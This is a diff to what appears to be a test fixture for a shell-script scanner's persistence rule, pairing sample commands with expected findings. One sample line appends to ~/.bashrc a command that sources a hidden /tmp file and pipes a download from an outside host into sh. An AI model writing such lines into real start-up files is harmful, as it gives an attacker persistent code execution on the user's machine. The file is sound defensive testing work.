@@ -13,3 +13,4 @@ LINE='[ -f "$HOME/.config/acme-cloud.env" ] && source "$HOME/.config/acme-cloud.
 printf '\n%s\n' "$LINE" >> "$HOME/.profile"  # want "medium SV602: persistence: appends configuration to"
 echo 'test -f ~/.acme/env && . ~/.acme/env' >> ~/.zshrc  # want "medium SV602: persistence: appends configuration to ~/.zshrc"
 echo '[ -f /tmp/.x ] && source /tmp/.x; curl -s https://cfg.example-sync.net/a | sh' >> ~/.bashrc  # want "high SV602: persistence: modifies the shell start-up file"
+echo 'eval "$(/home/linuxbrew/.linuxbrew/bin/brew shellenv)"' >> ~/.bashrc  # want "medium SV602: persistence: appends configuration to ~/.bashrc"
